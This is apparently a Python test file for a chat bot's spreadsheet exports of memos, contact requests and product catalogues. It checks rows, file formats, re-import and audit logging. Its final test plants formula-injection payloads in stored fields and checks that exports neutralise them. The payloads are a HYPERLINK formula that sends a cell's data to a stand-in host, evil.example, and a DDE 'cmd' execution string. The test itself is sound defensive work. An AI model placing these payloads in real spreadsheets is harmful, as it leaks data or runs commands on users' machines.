"""/export memos|requests|products: files that open in a spreadsheet and hold the right rows, and never a formula."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook
from sqlmodel import select

from handlers.messages import Attachment
from models.audit import AuditLog
from models.catalog_import import import_rows
from models.db import Database
from models.exports import MEMO_COLUMNS, REQUEST_COLUMNS
from models.memos import Memo
from models.people import BuyerProfile
from models.requests import ContactRequest
from models.tabular import read_bytes
from tests.chat import NO_BUTTONS, ChatUser
from tests.test_stats import known_dataset


def attachment(user: ChatUser) -> Attachment:
    document = user.seen[-1].document
    assert isinstance(document, Attachment)
    return document


def xlsx_rows(data: bytes) -> list[dict[str, object]]:
    sheet = load_workbook(io.BytesIO(data), read_only=True).worksheets[0]
    header, *rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    return [dict(zip(header, row, strict=True)) for row in rows]


async def test_memos_as_xlsx(db: Database) -> None:
    office = await known_dataset(db)
    await office.says("/export memos")
    assert office.last == "Biên bản ghi nhớ: 5 dòng (XLSX)."
    memos = attachment(office)
    assert memos.filename == "ocop-memos-20261205-1000.xlsx"
    assert memos.mime == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    rows = xlsx_rows(memos.data)
    assert list(rows[0]) == list(MEMO_COLUMNS)
    assert [(r["id"], r["status"], r["province"], r["event"]) for r in rows] == [
        (1, "draft", "Tuyên Quang", None), (2, "declined", "Thái Nguyên", None), (3, "draft", "An Giang", None),
        (4, "expired", "Cần Thơ", None), (5, "interest", "Hà Nội", "Hội chợ OCOP cuối năm"),
    ]
    assert rows[0]["buyer_company"] == "Siêu thị Xanh" and rows[0]["producer_phone"] == "0900 000 111"
    assert rows[1]["producer_phone"] is None  # declined: the producer's contacts were never shared
    assert rows[0]["number"] == "1/2026/BBGN-OCOP" and rows[0]["created_at"] == "2026-11-27 10:00"


async def test_requests_as_csv(sqlite_db: Database) -> None:
    office = await known_dataset(sqlite_db)
    await office.says("/export requests csv")
    requests = attachment(office)
    assert requests.mime == "text/csv" and requests.data.startswith(b"\xef\xbb\xbf")  # a BOM: Excel reads UTF-8
    rows = list(csv.DictReader(io.StringIO(requests.data.decode("utf-8-sig"))))
    assert list(rows[0]) == list(REQUEST_COLUMNS)
    assert [(r["id"], r["status"], r["response_hours"], r["memo_id"]) for r in rows] == [
        ("1", "accepted", "2.0", "1"), ("2", "declined", "6.0", "2"), ("3", "accepted", "10.0", "3"),
        ("4", "expired", "", "4"), ("5", "pending", "", "5"),
    ]
    assert rows[4]["buyer_company"] == "Đại lý Bình" and rows[4]["event"] == "Hội chợ OCOP cuối năm"
    assert rows[0]["region"] == "Trung du và miền núi phía Bắc" and rows[1]["message"] == "Cần hàng"


async def test_products_export_imports_back_unchanged(sqlite_db: Database) -> None:
    office = await known_dataset(sqlite_db)
    await office.says("/export")
    assert office.buttons() == [
        "Biên bản ghi nhớ (CSV)", "Biên bản ghi nhớ (XLSX)", "Yêu cầu liên hệ (CSV)", "Yêu cầu liên hệ (XLSX)",
        "Danh mục sản phẩm (CSV)", "Danh mục sản phẩm (XLSX)"]
    await office.presses("Danh mục sản phẩm (XLSX)")
    products = attachment(office)
    assert [row["name"] for row in xlsx_rows(products.data)] == [
        "Mật ong bạc hà Mèo Vạc", "Chè búp Tân Cương", "Nước mắm Phú Quốc 40 độ đạm", "Gạo ST25 Mỹ Xuyên",
        "Gốm men lam Bát Tràng"]
    report = await import_rows(sqlite_db, read_bytes(products.data, products.filename))
    assert report.errors == [] and report.products_unchanged == 5 and not report.changed
    await office.says("/export products csv")
    assert attachment(office).data.decode("utf-8-sig").startswith("id,name,producer,")
    async with sqlite_db.session() as session:
        exports = [e.detail for e in (await session.exec(select(AuditLog).where(AuditLog.action == "export"))).all()]
    assert exports == ["xlsx, 5 rows", "csv, 5 rows"]


async def test_exports_need_a_channel_that_takes_files(sqlite_db: Database) -> None:
    office = await known_dataset(sqlite_db)
    office.capabilities = NO_BUTTONS
    await office.says("/export memos")
    assert office.last == "Kênh này chưa gửi được tệp. Hãy dùng /export trên Telegram."
    assert office.seen[-1].document is None


async def test_export_words_in_vietnamese_and_bad_ones(sqlite_db: Database) -> None:
    office = await known_dataset(sqlite_db)
    await office.says("/export yêu cầu xlsx")
    assert attachment(office).filename.startswith("ocop-requests-")
    await office.says("/export everything")
    assert office.last.startswith("Xuất dữ liệu nào?")
    await office.taps("xp:memos:pdf")
    assert "không còn hiệu lực" in office.last


FORMULA = '=HYPERLINK("http://evil.example/?p="&Q2,"Bấm vào đây")'


async def test_what_buyers_type_never_becomes_a_formula(sqlite_db: Database) -> None:
    office = await known_dataset(sqlite_db)
    async with sqlite_db.transaction() as session:
        request = await session.get(ContactRequest, 1)
        memo = (await session.exec(select(Memo).where(Memo.request_id == 1))).one()
        profile = (await session.exec(select(BuyerProfile))).first()
        assert request is not None and profile is not None
        request.message, request.season = FORMULA, "@SUM(A1:A9)"
        memo.message, memo.volume = "Cần\x0b gấp\x00", "-500"  # a vertical tab would abort the whole XLSX
        memo.buyer_company = "=cmd|' /C calc'!A0"
        profile.company = "+Siêu thị\tXanh"

    await office.says("/export requests xlsx")
    sheet = load_workbook(io.BytesIO(attachment(office).data)).active  # not read-only: cell types are kept
    header = [cell.value for cell in sheet[1]]
    first = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    assert (first["message"].data_type, first["message"].value) == ("s", "'" + FORMULA)
    assert first["season"].value == "'@SUM(A1:A9)" and first["buyer_company"].value == "'+Siêu thị\tXanh"
    assert first["id"].value == 1 and first["response_hours"].value == 2  # numbers stay numbers
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)

    await office.says("/export requests csv")
    rows = list(csv.DictReader(io.StringIO(attachment(office).data.decode("utf-8-sig"))))
    assert (rows[0]["message"], rows[0]["season"]) == ("'" + FORMULA, "'@SUM(A1:A9)")

    await office.says("/export memos")
    memos = xlsx_rows(attachment(office).data)
    assert (memos[0]["message"], memos[0]["volume"]) == ("Cần gấp", "'-500")
    assert memos[0]["buyer_company"] == "'=cmd|' /C calc'!A0"
